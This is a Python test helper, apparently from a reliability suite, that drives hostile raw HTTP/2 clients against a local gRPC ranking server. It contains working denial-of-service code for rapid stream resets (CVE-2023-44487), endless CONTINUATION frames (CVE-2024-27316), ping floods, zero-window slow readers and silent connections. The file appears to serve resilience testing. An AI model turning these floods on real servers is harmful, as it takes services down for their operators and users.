"""Clients that mean harm, as raw HTTP/2, in a process of their own so that they take no turn from whoever measures.

    python -m tests.reliability.rude KIND PORT SECONDS FRAMES_PER_S

Prints how many frames it sent. Needs `pip install h2`.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

import h2.config
import h2.connection
import h2.errors
import h2.settings

CONNECTIONS = 8
RANK = "/recsys.v1.RankingService/RankItems"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", RANK),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]


class Connection:
    """One socket that speaks HTTP/2; opens anew where the server has had enough."""

    def __init__(self, port: int, *, window: int = 65_535) -> None:
        self._port, self._window = port, window
        self._open()

    def _open(self) -> None:
        self.begun = False  # the headers of a call
        self.socket = socket.create_connection(("127.0.0.1", self._port), timeout=5)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.local_settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = self._window
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> None:
        self.socket.sendall(self.h2.data_to_send())

    def hear(self) -> None:
        """Takes what is there, so that the server is not the one who waits; unless the kind says so."""
        self.socket.settimeout(0.0)
        with suppress(BlockingIOError):
            while data := self.socket.recv(65_536):
                self.h2.receive_data(data)
        self.socket.settimeout(5)

    def again(self) -> None:
        self.socket.close()
        while True:
            with suppress(OSError):
                self._open()
                return
            time.sleep(0.05)


def resets(each: Connection) -> None:
    """Begins a call and takes it back at once (CVE-2023-44487)."""
    stream = each.h2.get_next_available_stream_id()
    each.h2.send_headers(stream, HEADERS)
    each.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    each.flush()
    each.hear()


def pings(each: Connection) -> None:
    each.h2.ping(b"12345678")
    each.flush()
    each.hear()


def unfinished_headers(each: Connection) -> None:
    """HEADERS without END_HEADERS, and CONTINUATION after CONTINUATION (CVE-2024-27316), never at an end."""
    block = b"\x00\x03abc\x10" + b"x" * 16
    kind, each.begun = (0x9 if each.begun else 0x1), True
    each.socket.sendall(struct.pack(">I", len(block))[1:] + bytes([kind, 0]) + struct.pack(">I", 1) + block)


def slow_readers(each: Connection) -> None:
    """Asks, and takes nothing: a window of 0 bytes holds every answer at the server."""
    stream = each.h2.get_next_available_stream_id()
    each.h2.send_headers(stream, HEADERS)
    body = b"\x0a\x03\x0a\x01u\x12\x08\x0a\x06item-1"  # a user and one candidate
    each.h2.send_data(stream, b"\0" + struct.pack(">I", len(body)) + body, end_stream=True)
    each.flush()
    each.hear()


def silent(each: Connection) -> None:
    """A connection that never says anything, and another one."""
    each.again()


KINDS: dict[str, Callable[[Connection], None]] = {
    each.__name__: each for each in (resets, pings, unfinished_headers, slow_readers, silent)
}


def attack(kind: str, port: int, seconds: float, frames_per_s: float) -> int:
    """How many frames (or connections) were sent."""
    window = 0 if kind == "slow_readers" else 65_535
    connections = [Connection(port, window=window) for _ in range(CONNECTIONS)]
    start_s, sent = time.monotonic(), 0
    for number in _paced(start_s, seconds, frames_per_s):
        each = connections[number % CONNECTIONS]
        try:
            KINDS[kind](each)
            sent += 1
        except Exception:  # noqa: BLE001 - the server hung up, in whatever words
            each.again()
    return sent


def _paced(start_s: float, seconds: float, per_s: float) -> Iterator[int]:
    number = 0
    while (now_s := time.monotonic()) < start_s + seconds:
        if number > (now_s - start_s) * per_s:
            time.sleep(0.001)
            continue
        yield number
        number += 1


if __name__ == "__main__":
    kind, port, seconds, rate = sys.argv[1:]
    print(attack(kind, int(port), float(seconds), float(rate)))
